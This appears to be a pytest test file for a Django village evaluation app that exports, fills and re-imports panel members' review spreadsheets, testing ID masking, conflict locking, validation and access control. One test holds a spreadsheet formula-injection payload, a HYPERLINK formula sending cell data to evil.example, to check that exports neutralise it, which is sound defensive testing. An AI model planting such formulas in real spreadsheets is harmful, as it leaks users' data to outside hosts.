"""Paper evaluation sheets (cunxin.evaluation.sheets): export a panel member's sheet,
fill it in as a villager would, import it back; in the browser's place (test client).

Village VA1 (tests/conftest.py): Ha1 = 张伟 (Pa11) and 李芳 (Pa12), Ha4 = 周强 (Pa41),
Ha5 = 张军 (Pa51, sibling of 张伟). Panel: ev1 (李芳: Ha1 is her own household), ev2 (Ha4),
ev3 (Ha5, and Ha1 through his brother), ev4 (no person record: no conflicts).
"""

from __future__ import annotations

import io
import json
import re

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from cunxin.audit.models import AuditEvent
from cunxin.evaluation import actions, sheets
from cunxin.evaluation.models import PanelMember, Review, ReviewStatus, RoundKind, Source
from cunxin.evaluation.versions import evaluation_policy
from cunxin.lib.masking import mask_id_for_evaluator
from cunxin.pool.models import AccessLog, Person
from world import make_person

pytestmark = pytest.mark.django_db

VILLAGE = ["Pa11", "Pa12", "Pa41", "Pa51"]


# --- helpers -------------------------------------------------------------------------------
@pytest.fixture
def rnd(project, village):
    return actions.do_open_round(village.users["cm_a"], project, RoundKind.FIRST)


def seat(project, village, key: str) -> PanelMember:
    return PanelMember.objects.get(project=project, staff__user=village.users[key])


def export_url(project, member) -> str:
    return reverse("evaluation:sheet_export", args=[project.pk, member.pk])


def sheets_url(project) -> str:
    return reverse("evaluation:sheets", args=[project.pk])


def download(client, village, project, key: str, as_user: str = "cm_a") -> bytes:
    client.force_login(village.users[as_user])
    response = client.get(export_url(project, seat(project, village, key)))
    assert response.status_code == 200, response.content[:500]
    return response.content


def meta_of(book) -> dict[str, list]:
    return {row[0]: list(row[1:]) for row in book[sheets.META_SHEET].iter_rows(values_only=True)}


def rows_of(content: bytes) -> tuple[list[str], list[dict]]:
    """(column keys, one {key: value} per data row) of an exported sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    keys = [k for k in meta_of(book)["columns"] if k]
    data = book.worksheets[0].iter_rows(min_row=2, max_col=len(keys), values_only=True)
    return keys, [dict(zip(keys, values, strict=True)) for values in data]


def fill(content: bytes, answers: dict[str, dict], extra_rows: list[dict] = ()) -> bytes:
    """The sheet filled in: `answers` maps a row key to {column key: value}; `extra_rows`
    are appended below (rows that were not in the export)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    keys = [k for k in meta_of(book)["columns"] if k]
    col = {k: i + 1 for i, k in enumerate(keys)}
    sheet = book.worksheets[0]
    row_of = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    for uid, cells in answers.items():
        for key, value in cells.items():
            sheet.cell(row=row_of[uid], column=col[key], value=value)
    for n, cells in enumerate(extra_rows, start=sheet.max_row + 1):
        for key, value in cells.items():
            sheet.cell(row=n, column=col[key], value=value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def row_number(content: bytes, uid: str) -> int:
    _keys, rows = rows_of(content)
    return 2 + [r["uid"] for r in rows].index(uid)


def upload(client, project, member, content: bytes, name: str = "评议表.xlsx"):
    return client.post(
        sheets_url(project), {"member": member.pk, "sheet": SimpleUploadedFile(name, content)}
    )


def import_direct(village, rnd, member, content: bytes, name="sheet.xlsx", actor="cm_a"):
    return sheets.import_sheet(village.users[actor], rnd, member, SimpleUploadedFile(name, content))


def paper_reviews():
    return Review.objects.filter(source=Source.PAPER)


# --- export --------------------------------------------------------------------------------
def test_it_exports_one_row_per_living_household_member_masked_for_evaluators(
    client, village, project, rnd
):
    w = village
    # a member who left the pool (retired) is not on the sheet
    make_person(w, "a42", w.households.get("a4") or w.persons["a41"].household, name="周退",
                birth="20010101", seq=71, phone=None, relation="子", index=1,
                village=w.villages["VA1"])  # fmt: skip
    Person.objects.filter(uid="Pa42").update(retired_at=timezone.now())

    content = download(client, w, project, "ev4")

    keys, rows = rows_of(content)
    assert sorted(r["uid"] for r in rows) == sorted(VILLAGE)  # not Pa42, not VA2's persons
    uids = [r["uid"] for r in rows]
    assert uids.index("Pa12") == uids.index("Pa11") + 1  # a household's members together
    by_uid = {r["uid"]: r for r in rows}
    full_id = w.plain["a11"][0]
    assert by_uid["Pa11"]["id"] == mask_id_for_evaluator(full_id)
    assert by_uid["Pa11"]["id"].count("*") == 16  # first 1 + last 1, not the staff's 6 + 4
    assert (by_uid["Pa11"]["name"], by_uid["Pa11"]["head"], by_uid["Pa12"]["relation"]) == (
        "张伟", "张伟", "配偶",
    )  # fmt: skip
    assert by_uid["Pa41"]["household_no"] == "a4"
    everything = " ".join(str(v) for r in rows for v in r.values())
    for key in ("a11", "a12", "a41", "a51"):
        number, phone = w.plain[key]
        assert number not in everything and (phone is None or phone not in everything)
        assert number[1:-1] not in everything
    # the columns to fill in follow the project's policy
    policy = evaluation_policy(project.policy)
    assert [k for k in keys if k.startswith("neg:")] == [f"neg:{i}" for i in policy.negative_items]
    assert [k for k in keys if k.startswith("grade:")] == [f"grade:{i}" for i in policy.graded_items]  # fmt: skip
    assert keys[-1] == "amount" and all(r["knows"] is None for r in rows)


def test_it_freezes_the_header_and_explains_the_sheet_on_a_second_one(client, village, project, rnd):  # fmt: skip
    content = download(client, village, project, "ev4")

    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet, help_sheet = book.worksheets[0], book.worksheets[1]
    assert sheet.freeze_panes == "F2"  # the header row and who the row is about
    assert sheet.protection.sheet is True
    instructions = " ".join(str(c) for row in help_sheet.iter_rows(values_only=True) for c in row if c)  # fmt: skip
    for label in evaluation_policy(project.policy).negative_items.values():
        assert label in instructions
    assert "ev4" in instructions  # whose sheet it is
    assert book[sheets.META_SHEET].sheet_state == "veryHidden"
    validations = {str(dv.sqref).split(":")[0][:1]: dv for dv in sheet.data_validations.dataValidation}  # fmt: skip
    assert any(dv.type == "list" and "是" in dv.formula1 for dv in validations.values())
    assert any(dv.type == "whole" and dv.formula2 == "5" for dv in validations.values())


def test_it_greys_out_and_locks_households_in_conflict_with_the_member(client, village, project, rnd):  # fmt: skip
    content = download(client, village, project, "ev3")  # Ha5 own, Ha1 his brother's

    _keys, rows = rows_of(content)
    notes = {r["uid"]: r["note"] for r in rows}
    assert "兄弟姐妹" in notes["Pa11"] and "兄弟姐妹" in notes["Pa12"]
    assert "本户成员" in notes["Pa51"]
    assert "回避" in notes["Pa11"]
    assert notes["Pa41"] is None  # he may review Ha4
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    col = {k: i + 1 for i, k in enumerate(k for k in meta_of(book)["columns"] if k)}
    row = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    knows_pa11 = sheet.cell(row=row["Pa11"], column=col["knows"])
    knows_pa41 = sheet.cell(row=row["Pa41"], column=col["knows"])
    assert knows_pa11.protection.locked and not knows_pa41.protection.locked
    assert knows_pa11.fill.fgColor.rgb != knows_pa41.fill.fgColor.rgb


def test_the_sheet_holds_nothing_of_any_review(client, village, project, rnd):
    w = village
    actions.do_save_review(w.users["ev2"], rnd, w.persons["a11"], knows_household=True,
                           negative_items=["vice"], graded={"health": 2}, amount_yuan=43_210,
                           submit=True)  # fmt: skip

    ev4_sheet = download(client, w, project, "ev4")
    ev2_sheet = download(client, w, project, "ev2")

    for content in (ev4_sheet, ev2_sheet):
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = " ".join(
            str(c) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row
        )
        assert "43210" not in cells and "43,210" not in cells
    ev4_notes = {r["uid"]: r["note"] for r in rows_of(ev4_sheet)[1]}
    ev2_notes = {r["uid"]: r["note"] for r in rows_of(ev2_sheet)[1]}
    assert ev4_notes["Pa11"] is None  # another member's review leaves no trace
    assert ev2_notes["Pa11"]  # ev2's own review: handed in on the phone, so a grey row


def test_it_exports_text_that_looks_like_a_formula_as_text(client, village, project, rnd):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    Person.objects.filter(uid="Pa41").update(name=formula)

    content = download(client, village, project, "ev4")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"  # a string, not a formula ("f")
    assert cells[0].hyperlink is None


def test_the_export_is_access_logged(client, village, project, rnd):
    member = seat(project, village, "ev4")

    download(client, village, project, "ev4")

    log = AccessLog.objects.get()
    assert (log.user, log.kind, log.person, log.field) == (
        village.users["cm_a"], AccessLog.Kind.EXPORT, None, "masked",
    )  # fmt: skip
    assert (log.export_kind, log.row_count, log.subject, log.object_type, log.object_id) == (
        "evaluation_sheet", 4, f"{project.village} · {member.staff.display_name}",
        "evaluation.project", str(project.pk),
    )  # fmt: skip
    # the access-log page says it in words: whose sheet, which village, how many rows
    page = client.get(reverse("access_log")).content.decode()
    assert (
        "evaluation-sheet project=" not in page and "ev4" in page and str(project.village) in page
    )


# --- import --------------------------------------------------------------------------------
def test_a_filled_sheet_comes_back_as_submitted_paper_reviews(client, village, project, rnd):
    w = village
    member = seat(project, w, "ev4")
    content = download(client, w, project, "ev4")
    filled = fill(content, {
        "Pa11": {"knows": "是", "neg:vice": "√", "grade:health": 4, "grade:habits": "5", "amount": 30000},
        "Pa12": {"knows": "否"},
        "Pa41": {"knows": "是", "neg:absent": 1, "neg:other": "是", "amount": "50,000"},
        # Pa51 left empty: skipped
    })  # fmt: skip

    response = upload(client, project, member, filled)

    assert response.status_code == 302 and response.url == sheets_url(project)
    reviews = {r.person_id: r for r in Review.objects.filter(round=rnd)}
    assert set(reviews) == {"Pa11", "Pa12", "Pa41"}
    for r in reviews.values():
        assert (r.reviewer, r.status, r.source, r.entered_by) == (
            member, ReviewStatus.SUBMITTED, Source.PAPER, w.users["cm_a"],
        )  # fmt: skip
        assert r.submitted_at is not None
    pa11, pa12, pa41 = reviews["Pa11"], reviews["Pa12"], reviews["Pa41"]
    assert (pa11.knows_household, pa11.negative_items, pa11.graded, pa11.amount_yuan) == (
        True, ["vice"], {"health": 4, "habits": 5}, 30_000,
    )  # fmt: skip
    assert (pa12.knows_household, pa12.negative_items, pa12.amount_yuan) == (False, [], None)
    assert (pa41.negative_items, pa41.amount_yuan) == (["absent", "other"], 50_000)
    # one audit event for the import, with counts and not contents
    event = AuditEvent.objects.get(action="evaluation.sheet.import")
    assert event.after == {
        "member": member.pk, "created": 3, "replaced_drafts": 0, "unchanged": 0, "skipped": 1,
    }  # fmt: skip
    assert "30000" not in json.dumps(event.after) and "vice" not in json.dumps(event.after)
    assert not AuditEvent.objects.filter(action="evaluation.review.submit").exists()
    # the summary: 3 stored (none replacing a draft), 0 unchanged, 1 empty row skipped
    page = client.get(sheets_url(project))
    [message] = [str(m) for m in page.context["messages"]]
    assert "ev4" in message
    assert sorted(re.findall(r"\d+", message.replace("ev4", ""))) == ["0", "0", "1", "3"]


def test_importing_the_same_sheet_again_changes_nothing(client, village, project, rnd):
    w = village
    member = seat(project, w, "ev4")
    filled = fill(download(client, w, project, "ev4"), {
        "Pa11": {"knows": "是", "amount": 20000}, "Pa41": {"knows": "否"},
    })  # fmt: skip
    first = import_direct(w, rnd, member, filled)
    stamps = dict(Review.objects.values_list("person_id", "submitted_at"))

    again = import_direct(w, rnd, member, filled)

    assert (first.ok, first.created, first.unchanged) == (True, 2, 0)
    assert (again.ok, again.created, again.unchanged, again.errors) == (True, 0, 2, [])
    assert dict(Review.objects.values_list("person_id", "submitted_at")) == stamps
    assert Review.objects.count() == 2
    # … but a sheet with other answers for a stored row is refused, and nothing changes
    changed = fill(filled, {"Pa11": {"amount": 25000}})
    refused = import_direct(w, rnd, member, changed)
    assert [e.code for e in refused.errors] == ["already_imported"]
    assert Review.objects.get(person_id="Pa11").amount_yuan == 20_000


def test_a_paper_review_replaces_the_members_unfinished_app_draft(client, village, project, rnd):
    w = village
    member = seat(project, w, "ev4")
    draft = actions.do_save_review(w.users["ev4"], rnd, w.persons["a41"], knows_household=True,
                                   negative_items=[], graded={}, amount_yuan=1_000, submit=False)  # fmt: skip
    filled = fill(download(client, w, project, "ev4"), {"Pa41": {"knows": "是", "amount": 8000}})

    result = import_direct(w, rnd, member, filled)

    draft.refresh_from_db()
    assert (result.ok, result.created, result.replaced_drafts) == (True, 0, 1)
    assert (draft.status, draft.source, draft.amount_yuan, draft.entered_by) == (
        ReviewStatus.SUBMITTED, Source.PAPER, 8_000, w.users["cm_a"],
    )  # fmt: skip


def test_an_untouched_sheet_imports_nothing_and_is_not_an_error(client, village, project, rnd):
    member = seat(project, village, "ev3")  # two grey households, one to fill
    content = download(client, village, project, "ev3")

    result = import_direct(village, rnd, member, content)

    assert (result.ok, result.created, result.skipped) == (True, 0, 4)
    assert not Review.objects.exists()


VALID_PA41 = {"Pa41": {"knows": "是", "amount": 10000}}


@pytest.mark.parametrize(
    ("answers", "extra", "code", "on"),
    [
        ({}, [{"uid": "Pzzz9", "knows": "是"}], "unknown_key", "extra"),
        ({}, [{"uid": "Pa21", "name": "王强", "knows": "是"}], "not_in_village", "extra"),
        ({}, [{"uid": "Pa41", "name": "周强", "knows": "否"}], "duplicate", "extra"),
        ({}, [{"name": "新人", "knows": "是"}], "no_key", "extra"),
        ({"Pa11": {"amount": 1000}}, [], "knows_missing", "Pa11"),
        ({"Pa11": {"knows": "也许"}}, [], "knows_invalid", "Pa11"),
        ({"Pa11": {"knows": "否", "amount": 1000}}, [], "knows_no_with_answers", "Pa11"),
        ({"Pa11": {"knows": "是", "neg:vice": "x"}}, [], "tick", "Pa11"),
        ({"Pa11": {"knows": "是", "grade:health": 6}}, [], "grade", "Pa11"),
        ({"Pa11": {"knows": "是", "grade:health": "好"}}, [], "grade", "Pa11"),
        ({"Pa11": {"knows": "是", "amount": 1500.5}}, [], "amount", "Pa11"),
        ({"Pa11": {"knows": "是", "amount": "3万"}}, [], "amount", "Pa11"),
        ({"Pa11": {"knows": "是", "amount": -100}}, [], "amount", "Pa11"),
        ({"Pa11": {"knows": "是", "amount": 200_001}}, [], "amount_cap", "Pa11"),
        ({"Pa11": {"knows": "是", "name": "张三"}}, [], "name_changed", "Pa11"),
    ],
)
def test_an_invalid_row_is_reported_with_its_row_number_and_nothing_is_stored(
    client, village, project, rnd, answers, extra, code, on
):
    member = seat(project, village, "ev4")
    content = download(client, village, project, "ev4")
    filled = fill(content, {**VALID_PA41, **answers}, extra)
    expected_row = 2 + len(VILLAGE) if on == "extra" else row_number(content, on)

    response = upload(client, project, member, filled)

    assert response.status_code == 400
    result = response.context["result"]
    assert [(e.row, e.code) for e in result.errors] == [(expected_row, code)]
    assert not Review.objects.exists()  # not even the valid row of 周强
    html = response.content.decode()
    assert f'data-code="{code}"><td>{expected_row}</td>' in html
    assert not AuditEvent.objects.filter(action="evaluation.sheet.import").exists()


def test_a_household_in_conflict_cannot_be_filled_in(client, village, project, rnd):
    member = seat(project, village, "ev3")
    content = download(client, village, project, "ev3")
    filled = fill(content, {**VALID_PA41, "Pa11": {"knows": "是", "amount": 1000}})

    result = import_direct(village, rnd, member, filled)

    assert [(e.row, e.code) for e in result.errors] == [(row_number(content, "Pa11"), "conflict")]
    assert "兄弟姐妹" in result.errors[0].message
    assert not Review.objects.exists()


def test_a_review_already_submitted_in_the_app_is_not_overwritten(client, village, project, rnd):
    w = village
    member = seat(project, w, "ev4")
    content = download(client, w, project, "ev4")
    actions.do_save_review(w.users["ev4"], rnd, w.persons["a11"], knows_household=True,
                           negative_items=[], graded={}, amount_yuan=7_000, submit=True)  # fmt: skip
    filled = fill(content, {**VALID_PA41, "Pa11": {"knows": "是", "amount": 9000}})

    result = import_direct(w, rnd, member, filled)

    assert [(e.row, e.code) for e in result.errors] == [
        (row_number(content, "Pa11"), "submitted_in_app")
    ]
    app = Review.objects.get()
    assert (app.person_id, app.amount_yuan, app.source) == ("Pa11", 7_000, Source.APP)


def test_every_invalid_row_is_listed_at_once(client, village, project, rnd):
    member = seat(project, village, "ev4")
    content = download(client, village, project, "ev4")
    filled = fill(content, {
        "Pa11": {"knows": "是", "grade:health": 0, "amount": 999_999},
        "Pa12": {"knows": "?"}, **VALID_PA41,
    })  # fmt: skip

    result = import_direct(village, rnd, member, filled)

    assert sorted((e.row, e.code) for e in result.errors) == sorted([
        (row_number(content, "Pa11"), "grade"), (row_number(content, "Pa11"), "amount_cap"),
        (row_number(content, "Pa12"), "knows_invalid"),
    ])  # fmt: skip
    assert (result.ok, result.created) == (False, 0)


# --- the file ------------------------------------------------------------------------------
def plain_workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["户号", "姓名"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("sheet.csv", b"uid,knows\nPa11,1\n", "not_xlsx"),
        ("sheet.xlsx", b"uid,knows\nPa11,1\n", "not_xlsx"),  # named .xlsx, but it is not
        ("sheet.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "not_xlsx"),
        ("sheet.xlsx", b"PK\x03\x04" + b"\0" * 200, "unreadable"),
        ("sheet.xlsx", b"PK\x03\x04" + b"x" * (5 * 1024 * 1024), "size"),
        ("sheet.xlsx", None, "not_ours"),  # a real workbook, but not an exported sheet
    ],
)
def test_a_file_that_is_not_a_sheet_is_refused_with_a_clear_message(
    client, village, project, rnd, name, content, code
):
    member = seat(project, village, "ev4")
    client.force_login(village.users["cm_a"])

    response = upload(client, project, member, content or plain_workbook(), name=name)

    assert response.status_code == 400
    result = response.context["result"]
    assert (result.file_code, result.errors) == (code, [])
    assert escape(result.file_error) in response.content.decode()
    assert not Review.objects.exists()


def test_another_members_sheet_is_refused(client, village, project, rnd):
    filled = fill(download(client, village, project, "ev2"), VALID_PA41 | {"Pa11": {"knows": "否"}})  # fmt: skip

    result = import_direct(village, rnd, seat(project, village, "ev4"), filled)

    assert result.file_code == "other_member"
    assert "ev2" in result.file_error and "ev4" in result.file_error
    assert not Review.objects.exists()


def test_a_sheet_with_moved_columns_is_refused(client, village, project, rnd):
    content = download(client, village, project, "ev4")
    book = openpyxl.load_workbook(io.BytesIO(content))
    book.worksheets[0].insert_cols(3)
    out = io.BytesIO()
    book.save(out)

    result = import_direct(village, rnd, seat(project, village, "ev4"), out.getvalue())

    assert (result.file_code, result.errors) == ("columns_changed", [])
    assert not Review.objects.exists()


def test_nothing_is_imported_without_a_member_or_a_file(client, village, project, rnd):
    client.force_login(village.users["cm_a"])
    member = seat(project, village, "ev4")

    no_file = client.post(sheets_url(project), {"member": member.pk})
    no_member = client.post(sheets_url(project), {"sheet": SimpleUploadedFile("s.xlsx", b"PK")})

    assert no_file.status_code == no_member.status_code == 400
    assert no_file.context["form"].errors["sheet"] and no_member.context["form"].errors["member"]


# --- rounds --------------------------------------------------------------------------------
def test_without_an_open_first_round_there_is_no_sheet(client, village, project):
    w = village
    member = seat(project, w, "ev4")
    client.force_login(w.users["cm_a"])

    before = client.get(export_url(project, member))
    assert before.status_code == 400 and before.context["error"]
    assert not AccessLog.objects.exists()

    rnd = actions.do_open_round(w.users["cm_a"], project, RoundKind.FIRST)
    content = download(client, w, project, "ev4")
    filled = fill(content, VALID_PA41)
    actions.do_close_round(w.users["cm_a"], rnd)

    after = client.get(export_url(project, member))
    imported = upload(client, project, member, filled)
    assert after.status_code == imported.status_code == 400
    with pytest.raises(ValidationError) as closed:
        sheets.open_first_round(project)
    assert imported.context["error"] == after.context["error"] == closed.value.messages[0]
    assert not Review.objects.exists()
    page = client.get(sheets_url(project))
    assert page.status_code == 200 and 'data-testid="sheet-upload"' not in page.content.decode()


# --- who may -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("user", "status"),
    [
        ("hq_admin", 200), ("bm_a", 200), ("cm_a", 200),
        ("hq_analyst", 403), ("bm_b", 404), ("cm_b", 404),
        ("ev1", 404), ("ev4", 404), ("customer", 404),
    ],
)  # fmt: skip
def test_only_staff_who_may_write_in_the_village_reach_the_sheets(
    client, village, project, rnd, user, status
):
    member = seat(project, village, "ev4")
    content = download(client, village, project, "ev4")  # as cm_a
    filled = fill(content, VALID_PA41)
    client.force_login(village.users[user])

    page = client.get(sheets_url(project))
    export = client.get(export_url(project, member))
    imported = upload(client, project, member, filled)

    assert page.status_code == export.status_code == status
    assert imported.status_code == (302 if status == 200 else status)
    assert Review.objects.exists() is (status == 200)
    assert AccessLog.objects.count() == (2 if status == 200 else 1)


def test_the_import_action_refuses_who_may_not_manage_the_project(village, project, rnd):
    content = b"irrelevant"
    with pytest.raises(PermissionDenied):
        import_direct(village, rnd, seat(project, village, "ev4"), content, actor="hq_analyst")
    with pytest.raises(PermissionDenied):
        import_direct(village, rnd, seat(project, village, "ev4"), content, actor="ev4")


def test_a_removed_member_has_no_sheet(client, village, project, rnd):
    member = seat(project, village, "ev4")
    actions.do_remove_panel_member(village.users["cm_a"], member, "搬走了")
    client.force_login(village.users["cm_a"])

    assert client.get(export_url(project, member)).status_code == 404
    page = client.get(sheets_url(project)).content.decode()
    assert page.count('data-testid="sheet-row"') == 3


def test_the_project_page_links_to_the_sheets_for_writers_only(client, village, project):
    url = reverse("evaluation:project", args=[project.pk])
    client.force_login(village.users["cm_a"])
    assert 'data-testid="sheets-link"' in client.get(url).content.decode()
    client.force_login(village.users["hq_analyst"])
    assert 'data-testid="sheets-link"' not in client.get(url).content.decode()
